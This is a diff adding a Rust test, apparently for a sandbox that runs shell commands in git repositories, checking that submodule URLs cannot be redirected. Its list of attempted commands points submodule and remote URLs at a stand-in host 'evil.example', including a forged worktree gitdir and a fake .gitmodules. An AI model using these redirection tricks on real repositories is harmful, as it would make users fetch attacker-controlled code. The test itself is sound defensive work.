@@ -136,6 +136,56 @@ fn gitmodules_takes_only_harmless_submodules() {
     });
 }
 
+/// `git submodule update` of the user would fetch from there.
+#[test]
+fn submodule_of_the_user_is_led_to_no_other_address() {
+    if !needs(&["git"]) {
+        return;
+    }
+    let tries = [
+        "git remote add evil https://evil.example/q/x.git; git config submodule.lib.url https://evil.example/q/lib.git",
+        "git config submodule.new.url https://evil.example/q/new.git",
+        "mkdir -p .git/worktrees/fk fake; echo $PWD/fake/.git > .git/worktrees/fk/gitdir; echo gitdir: $PWD/.git/worktrees/fk > fake/.git; \
+         printf '[submodule \"abs\"]\\n\\turl = https://evil.example/abs.git\\n[submodule \"far\"]\\n\\turl = https://evil.example/far.git\\n' > fake/.gitmodules; \
+         git config submodule.abs.url https://evil.example/abs.git; git config submodule.far.url https://evil.example/far.git; \
+         rm -rf fake .git/worktrees/fk",
+        "git config -f .gitmodules --remove-section submodule.abs; git config -f .gitmodules submodule.abs.path abs; \
+         git config -f .gitmodules submodule.abs.url https://evil.example/abs2.git; git config submodule.abs.url https://evil.example/abs2.git",
+        "git config --remove-section submodule.abs; git config submodule.abs.url https://evil.example/abs2.git",
+        "git config -f .gitmodules submodule.other.path far && git config -f .gitmodules submodule.other.url https://evil.example/far.git",
+    ];
+    each_user(|user| {
+        let project = upstream(user);
+        let add = |name: &str, url: &str| {
+            format!("git config -f .gitmodules submodule.{name}.path {name} && git config -f .gitmodules submodule.{name}.url {url} && ")
+        };
+        let modules = [
+            add("lib", "../lib.git"),
+            add("abs", "https://good.example/abs.git"),
+            add("new", "../new.git"),
+            add("far", "https://good.example/far.git"),
+        ];
+        let initialised =
+            "git config submodule.lib.url https://good.example/lib.git && git config submodule.abs.url https://good.example/abs.git";
+        project
+            .sh_bare(&format!("git init -q && git remote add origin https://good.example/x.git && {}{initialised}", modules.concat()))
+            .ok();
+        // Those of the first run could be the ground for those of the second.
+        for round in ["first", "second"] {
+            run(&project, &tries.join("\n"));
+            let settings = project.sh_bare("git config --get-regexp ^submodule; git config -f .gitmodules --get-regexp url").text();
+            assert!(!settings.contains("evil"), "{user}: {round}\n{settings}");
+        }
+        // The control: those of `.gitmodules`, also again.
+        run(
+            &project,
+            "git config submodule.new.url https://good.example/new.git && git config submodule.far.url https://good.example/far.git",
+        )
+        .ok();
+        run(&project, "git config submodule.abs.url https://good.example/abs.git").ok();
+    });
+}
+
 /// Git takes a submodule's git directory that is there already.
 #[test]
 fn submodule_made_ahead_holds_no_program_after_the_run() {
